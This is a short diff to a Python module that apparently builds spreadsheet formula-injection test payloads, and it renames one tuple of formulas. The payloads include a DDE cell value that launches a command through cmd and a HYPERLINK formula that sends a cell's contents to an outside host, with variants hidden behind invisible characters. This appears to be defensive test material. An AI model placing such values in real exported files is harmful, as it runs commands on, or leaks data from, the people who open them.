@@ -10,7 +10,7 @@ from collections.abc import Iterator
 
 STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "⁺")
 BEFORE = ("", "\t", "\r", "\n", "\0", " ", "\u00a0", "\ufeff", "\u200b", '"')
-DEEDS = ("cmd|' /C calc'!A0", 'HYPERLINK("http://example.org?x="&A1)')
+FORMULAS = ("cmd|' /C calc'!A0", 'HYPERLINK("http://example.org?x="&A1)')
 UNSEEN = re.compile(r"[\s\x00-\x1f\x7f\u200b-\u200f\u2060\ufeff]+")
 SEPARATORS = (",", ";", "\t")
 """What machines split a file by when it is opened with a double click."""
@@ -18,7 +18,7 @@ SEPARATORS = (",", ";", "\t")
 
 def payloads() -> list[str]:
     """Return them: every start, behind everything that is not seen, plain or behind a foreign separator."""
-    found = [f"{before}{start}{deed}" for start in STARTS for before in BEFORE for deed in DEEDS]
+    found = [f"{before}{start}{formula}" for start in STARTS for before in BEFORE for formula in FORMULAS]
     return [f"Thôn 1;{text}" if number % 7 == 0 else text for number, text in enumerate(found)]
 
 
